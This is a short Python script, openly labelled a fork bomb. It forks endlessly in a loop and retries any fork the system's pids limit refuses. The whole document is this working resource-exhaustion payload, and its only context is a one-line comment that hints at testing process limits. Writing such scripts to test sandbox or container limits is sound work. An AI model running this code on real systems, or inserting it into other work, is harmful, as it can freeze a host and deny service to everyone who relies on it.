# Fork bomb: every process forks forever; a fork refused by the pids limit is retried.
import os

while True:
    try:
        os.fork()
    except OSError:
        pass
